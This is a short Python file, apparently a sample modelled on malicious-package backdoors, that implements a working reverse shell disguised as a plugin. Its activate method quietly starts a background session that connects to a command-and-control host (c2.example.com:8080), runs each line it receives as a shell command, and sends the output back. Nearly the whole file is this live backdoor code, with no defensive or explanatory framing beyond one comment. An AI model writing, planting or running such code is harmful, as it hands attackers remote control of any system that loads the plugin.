# Inspired by the 2023 'pyobfgood'/'requests-plus' style backdoors that open an outbound stream and run every received line with a shell, returning output.
import asyncio

C2 = ("c2.example.com", 8080)


async def _session():
    reader, writer = await asyncio.open_connection(*C2)
    writer.write(b"ready\n")
    await writer.drain()
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(
            line.decode(errors="ignore"),
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        out, _ = await proc.communicate()
        writer.write(out or b"\n")
        await writer.drain()


def _kick():
    loop = asyncio.new_event_loop()
    loop.run_until_complete(_session())


class Plugin:
    def activate(self, host):
        host.run_in_background(_kick)
